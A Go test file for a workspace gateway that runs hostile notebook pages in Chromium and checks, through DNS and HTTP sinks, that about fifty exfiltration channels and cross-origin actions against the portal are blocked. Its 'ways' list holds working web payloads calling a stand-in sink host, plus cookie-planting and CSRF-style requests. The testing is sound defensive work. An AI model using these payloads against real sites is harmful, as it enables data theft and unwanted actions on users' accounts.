package browsertest

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/ark-tre/ark/workspace/gateway"
)

// way is one way for a page of a workspace to speak out, or to act on the
// portal. SINK stands for an address of the sink that is the way's own, HOST
// for its host, PORTAL for the portal's origin.
type way struct {
	name, page string
	open       string // why it cannot be closed; the docs name it
}

const (
	navigates = "browsers have no switch against a page that goes elsewhere"
	asks      = "the browser asks for the name before it obeys the policy; no request follows"
)

// ways are the ways out. A page's scripts are all allowed: that is what code in
// a notebook has.
var ways = []way{
	{name: "image", page: `<img src="SINK">`},
	{name: "image-set", page: `<img srcset="SINK 2x, SINK 1x">`},
	{name: "svg-use", page: `<svg><image href="SINK"/><use href="SINK#x"/></svg>`},
	{name: "style-background", page: `<div style="background:url(SINK);width:9px;height:9px">x</div>`},
	{name: "style-import", page: `<style>@import url("SINK");</style>`},
	{name: "stylesheet", page: `<link rel="stylesheet" href="SINK">`},
	{name: "font", page: `<style>@font-face{font-family:q;src:url(SINK)} p{font-family:q}</style><p>x</p>`},
	{name: "script", page: `<script src="SINK"></script>`},
	{name: "module-import", page: `<script type="module">import("SINK").catch(()=>{})</script>`},
	{name: "frame", page: `<iframe src="SINK"></iframe>`, open: asks},
	{name: "frame-srcdoc", page: `<iframe srcdoc="<img src='SINK'>"></iframe>`},
	{name: "frame-blob", page: `<script>let f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<img src='SINK'>"],{type:"text/html"}));document.documentElement.append(f)</script>`},
	{name: "object", page: `<object data="SINK"></object><embed src="SINK">`},
	{name: "media", page: `<video src="SINK" autoplay></video><audio src="SINK" autoplay></audio>`},
	{name: "form-get", page: `<form action="SINK"><input name="q" value="1"></form><script>document.forms[0].submit()</script>`, open: asks},
	{name: "form-post", page: `<form method="post" action="SINK"><input name="q" value="1"></form><script>document.forms[0].submit()</script>`, open: asks},
	{name: "fetch", page: `<script>fetch("SINK",{mode:"no-cors"}).catch(()=>{})</script>`},
	{name: "fetch-keepalive", page: `<script>fetch("SINK",{mode:"no-cors",keepalive:true,method:"POST",body:"x"}).catch(()=>{})</script>`},
	{name: "xhr", page: `<script>let x=new XMLHttpRequest();x.open("GET","SINK");x.send()</script>`},
	{name: "beacon", page: `<script>navigator.sendBeacon("SINK","x")</script>`},
	{name: "websocket", page: `<script>new WebSocket("SINK".replace("http","ws"))</script>`},
	{name: "eventsource", page: `<script>new EventSource("SINK")</script>`},
	{name: "webtransport", page: `<script>try{new WebTransport("SINK".replace("http:","https:")).ready.catch(()=>{})}catch(e){}</script>`},
	{name: "prefetch", page: `<link rel="prefetch" href="SINK">`},
	{name: "preload", page: `<link rel="preload" as="image" href="SINK"><link rel="modulepreload" href="SINK">`},
	{name: "dns-prefetch", page: `<link rel="dns-prefetch" href="SINK">`},
	{name: "preconnect", page: `<link rel="preconnect" href="SINK">`},
	{name: "speculation-rules", page: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["SINK"]}],"prerender":[{"source":"list","urls":["SINK"]}]}</script>`},
	{name: "link-ping", page: `<a id="a" href="#x" ping="SINK">x</a><script>a.click()</script>`},
	{name: "manifest", page: `<link rel="manifest" href="SINK"><link rel="icon" href="SINK">`},
	{name: "popup", page: `<script>window.open("SINK")</script>`},
	{name: "link-new-tab", page: `<a id="a" href="SINK" target="_blank">x</a><script>a.click()</script>`},
	{name: "download", page: `<a id="a" href="SINK" download="x">x</a><script>a.click()</script>`, open: navigates},
	{name: "worker", page: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('SINK',{mode:'no-cors'});importScripts('SINK')"])))</script>`},
	{name: "service-worker", page: `<script>navigator.serviceWorker&&navigator.serviceWorker.register("/jupyter/lab?worker=SINK",{scope:"/jupyter/"}).catch(()=>{})</script>`},
	{name: "report-to", page: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri SINK"><img src="/jupyter/x">`},
	{name: "base-and-relative", page: `<base href="SINK"><img src="x.png">`},
	{name: "webrtc", page: `<script>let p=new RTCPeerConnection({iceServers:[{urls:"stun:HOST:3478"},{urls:"turn:HOST:3478",username:"u",credential:"c"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))</script>`,
		open: "no browser lets a page's policy forbid it"},
	{name: "location", page: `<script>location.href="SINK"</script>`, open: navigates},
	{name: "meta-refresh", page: `<meta http-equiv="refresh" content="0;url=SINK">`, open: navigates},
	{name: "link-same-tab", page: `<a id="a" href="SINK">x</a><script>a.click()</script>`, open: navigates},
	{name: "portal-fetch", page: `<script>fetch("PORTAL/api/v1/projects",{method:"POST",mode:"no-cors",credentials:"include",body:"{}"}).catch(()=>{})</script>`},
	{name: "portal-form", page: `<form method="post" action="PORTAL/projects/new"><input name="q" value="1"></form><script>document.forms[0].submit()</script>`},
	{name: "portal-image", page: `<img src="PORTAL/sign-out">`},
	{name: "portal-frame", page: `<iframe src="PORTAL/home"></iframe>`},
	{name: "portal-opener", page: `<script>if(window.opener)window.opener.location="SINK";if(parent!==window)parent.postMessage("x","*")</script>`},
	{name: "cookie-of-the-portal", page: `<script>for(const d of ["localhost","ws.localhost"])document.cookie="ark=planted; path=/; domain="+d</script>`},
	{name: "clipboard", page: `<script>navigator.clipboard&&navigator.clipboard.writeText("x").then(()=>fetch("/jupyter/lab?copied=1")).catch(()=>{})</script>`},
}

// sinks hear what gets out, by the way's name.
type sinks struct {
	mu   sync.Mutex
	dns  map[string]bool
	http map[string]bool
	acts []string // requests that passed the portal's guard with its cookie
	ran  map[string]bool
}

func (s *sinks) heard(m map[string]bool, host string) {
	name, _, ok := strings.Cut(strings.ToLower(host), ".sink.example")
	if !ok {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	m[name] = true
}

// TestHostileNotebook lets a page of a workspace try every way in a real
// Chromium behind the real gateway, whose names are resolved by a DNS sink and
// whose requests end in an HTTP sink.
func TestHostileNotebook(t *testing.T) {
	need(t)
	s := &sinks{dns: map[string]bool{}, http: map[string]bool{}, ran: map[string]bool{}}
	resolver := s.nameserver(t)
	sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.heard(s.http, r.Host)
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(sink.Close)
	_, port, _ := net.SplitHostPort(sink.Listener.Addr().String())
	origin, enter := s.ark(t, port, free{})
	job := map[string]any{"sinkPort": port, "portal": origin}
	var list []string
	for _, w := range ways {
		list = append(list, w.name)
	}
	tickets := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if way := r.URL.Query().Get("ran"); way != "" {
			s.mu.Lock()
			defer s.mu.Unlock()
			if s.ran[way] {
				_, _ = io.WriteString(w, "yes")
			}
			return
		}
		_, _ = io.WriteString(w, enter("wsp_"+strings.Repeat(r.URL.Query().Get("of"), 32)))
	}))
	t.Cleanup(tickets.Close)
	job["ways"], job["tickets"] = list, tickets.URL
	said := run(t, resolver, job)
	s.mu.Lock()
	defer s.mu.Unlock()
	var table []string
	closed := 0
	for _, w := range ways {
		var out []string
		if s.dns[w.name] {
			out = append(out, "a name was asked for")
		}
		if s.http[w.name] {
			out = append(out, "a request arrived")
		}
		verdict := "closed"
		if !s.ran[w.name] {
			t.Errorf("the page of %s did not run: nothing is known of it", w.name)
		}
		if len(out) > 0 {
			verdict = "OPEN: " + strings.Join(out, ", ")
		} else {
			closed++
		}
		table = append(table, fmt.Sprintf("%-22s %s", w.name, verdict))
		if len(out) > 0 && w.open == "" || w.open == asks && s.http[w.name] {
			t.Errorf("%s speaks out: %s", w.name, strings.Join(out, ", "))
		}
	}
	t.Logf("%d ways, %d closed\n%s", len(ways), closed, strings.Join(table, "\n"))
	if len(ways) < 25 {
		t.Error("fewer ways than 25")
	}
	if !s.http["control"] || !s.dns["control"] {
		t.Error("the sinks heard nothing of the control: the test proves nothing")
	}
	for _, a := range s.acts {
		t.Errorf("a workspace's page acted on the portal: %s", a)
	}
	if said.Planted != "" {
		t.Errorf("a workspace's page planted a cookie that another origin sees: %s", said.Planted)
	}
	documented(t)
}

// documented holds docs/security.md to the ways: a line for each.
func documented(t *testing.T) {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(tree, "docs", "security.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range ways {
		verdict := "closed"
		if w.open != "" {
			verdict = "open"
		}
		if !strings.Contains(string(text), "| `"+w.name+"` | "+verdict) {
			t.Errorf("docs/security.md does not say that %s is %s", w.name, verdict)
		}
	}
}

// ark is a gateway in front of a hostile app, and a portal with the guard that
// the real one has. enter returns a one-time address of a workspace.
func (s *sinks) ark(t *testing.T, sinkPort string, meter gateway.Meter) (string, func(workspace string) string) {
	t.Helper()
	var gate *gateway.Gateway
	var portal string
	app := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		name := r.URL.Query().Get("way")
		if r.URL.Query().Get("rows") != "" {
			w.Header().Set("Content-Type", "text/plain")
			for i := range rowsAtOnce {
				fmt.Fprintf(w, "%013d,1957,F,4,2023-05-%02d,25702006,Y,306689006\n", i, i%28+1)
			}
			return
		}
		if ran := r.URL.Query().Get("ran"); ran != "" {
			s.heard(s.ran, ran+".sink.example")
			return
		}
		if to := r.URL.Query().Get("worker"); to != "" {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, "fetch(%q,{mode:'no-cors'})", to)
			return
		}
		i := slices.IndexFunc(ways, func(x way) bool { return x.name == name })
		if i < 0 {
			_, _ = io.WriteString(w, "<!doctype html><p>"+html.EscapeString(name)+"</p>")
			return
		}
		host := name + ".sink.example"
		body := strings.NewReplacer("SINK", "http://"+host+":"+sinkPort+"/"+name, "HOST", host, "PORTAL", portal).Replace(ways[i].page)
		_, _ = io.WriteString(w, "<!doctype html><title>"+name+"</title><script>fetch('/jupyter/lab?ran="+name+"')</script>"+body)
	})
	inside := httptest.NewServer(app)
	t.Cleanup(inside.Close)
	guard := http.NewCrossOriginProtection()
	front := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if gate.Owns(r.Host) {
			gate.ServeHTTP(w, r)
			return
		}
		guard.Handler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if c, err := r.Cookie("ark"); err == nil && r.Header.Get("Sec-Fetch-Site") != "none" && r.Header.Get("Sec-Fetch-Site") != "same-origin" {
				s.mu.Lock()
				s.acts = append(s.acts, r.Method+" "+r.URL.Path+" with "+c.Value)
				s.mu.Unlock()
			}
			http.SetCookie(w, &http.Cookie{Name: "ark", Value: "the-portals", Path: "/", HttpOnly: true, SameSite: http.SameSiteLaxMode})
			w.Header().Set("Content-Type", "text/html")
			w.Header().Set("X-Frame-Options", "DENY")
			for _, c := range r.CookiesNamed("ark") {
				_, _ = io.WriteString(w, c.Value+" ")
			}
		})).ServeHTTP(w, r)
	}))
	_, port, _ := net.SplitHostPort(front.Listener.Addr().String())
	portal = "http://localhost:" + port
	var err error
	gate, err = gateway.New(gateway.Config{Origin: "http://localhost:" + port, Portal: portal, Recheck: time.Second, Now: time.Now, Random: rand.Reader,
		Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Authorise: func(context.Context, gateway.Session) error { return nil },
		Meter: meter, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "tcp", inside.Listener.Addr().String())
		}})
	if err != nil {
		t.Fatal(err)
	}
	front.Start()
	t.Cleanup(front.Close)
	return portal, func(workspace string) string {
		to, err := gate.Enter(gateway.Session{Workspace: workspace, User: "usr_a", Portal: "p", Apps: []string{"jupyter"}})
		if err != nil {
			t.Fatal(err)
		}
		return to
	}
}

// free is a meter that never ends.
type free struct{}

func (free) Take(context.Context, string, int64) error { return nil }

// nameserver answers every question with this machine and notes the names. It
// listens on a loopback address of its own, port 53.
func (s *sinks) nameserver(t *testing.T) string {
	t.Helper()
	address := "127.0.53.1"
	conn, err := net.ListenPacket("udp", address+":53")
	if err != nil {
		t.Fatalf("the DNS sink: %v", err)
	}
	t.Cleanup(func() { conn.Close() })
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := conn.ReadFrom(buf)
			if err != nil {
				return
			}
			var m dnsmessage.Message
			if m.Unpack(buf[:n]) != nil || len(m.Questions) == 0 {
				continue
			}
			q := m.Questions[0]
			s.heard(s.dns, q.Name.String())
			m.Response, m.RecursionAvailable = true, true
			m.Additionals = nil
			if q.Type == dnsmessage.TypeA {
				m.Answers = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: q.Name, Type: q.Type, Class: q.Class, TTL: 1}, Body: &dnsmessage.AResource{A: [4]byte{127, 0, 0, 1}}}}
			}
			if out, err := m.Pack(); err == nil {
				_, _ = conn.WriteTo(out, from)
			}
		}
	}()
	return address
}

// said is what the script reports.
type said struct {
	Planted string  `json:"planted"`
	Rows    int     `json:"rows"`
	Seconds float64 `json:"seconds"`
	Status  int     `json:"status"`
}

// rowsAtOnce is how many rows the reader asks for at once: what the SQL page
// would show.
const rowsAtOnce = 1000

// TestScreenReading measures how fast a script in a workspace's page can read
// rows through the screen, and sees the meter stop it for good.
func TestScreenReading(t *testing.T) {
	need(t)
	s := &sinks{dns: map[string]bool{}, http: map[string]bool{}, ran: map[string]bool{}}
	const budget = 24 << 20
	var mu sync.Mutex
	spent := int64(0)
	meter := &gateway.Budget{Bytes: budget, Window: 24 * time.Hour, Now: time.Now, Count: func(_ context.Context, _ string, _ time.Time, add int64) (int64, error) {
		mu.Lock()
		defer mu.Unlock()
		spent += add
		return spent, nil
	}}
	origin, enter := s.ark(t, "1", meter)
	got := run(t, s.nameserver(t), map[string]any{"portal": origin, "read": enter("wsp_" + strings.Repeat("a", 32))})
	bytesOfRow := float64(budget) / float64(max(got.Rows, 1))
	t.Logf("%d rows in %.2f s: %.0f rows a second, until the meter ended it with %d after %d MiB; at 200 MiB an hour that is %.0f rows of %.0f bytes an hour", got.Rows, got.Seconds, float64(got.Rows)/got.Seconds, got.Status, budget>>20, 200*float64(1<<20)/bytesOfRow, bytesOfRow)
	if got.Status != http.StatusTooManyRequests {
		t.Errorf("the reader was ended by %d, not by the meter", got.Status)
	}
	if spent > budget || got.Rows < rowsAtOnce || got.Rows > budget/40 {
		t.Errorf("%d bytes were counted of %d, and %d rows read", spent, budget, got.Rows)
	}
}

// run runs hostile.mjs in a mount namespace whose resolver is the sink.
func run(t *testing.T, resolver string, job any) said {
	t.Helper()
	dir := t.TempDir()
	conf := filepath.Join(dir, "resolv.conf")
	if err := os.WriteFile(conf, []byte("nameserver "+resolver+"\noptions timeout:1 attempts:1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	in, err := json.Marshal(job)
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithTimeout(t.Context(), 4*time.Minute)
	defer stop()
	cmd := exec.CommandContext(ctx, "unshare", "--mount", "sh", "-c", `mount --bind "$0" "$(readlink -f /etc/resolv.conf)" && exec node hostile.mjs`, conf)
	cmd.Stdin = strings.NewReader(string(in))
	var told strings.Builder
	cmd.Stderr = &told
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("hostile.mjs: %v\n%s", err, told.String())
	}
	var s said
	if err := json.Unmarshal(out, &s); err != nil {
		t.Fatalf("%q: %v", out, err)
	}
	return s
}
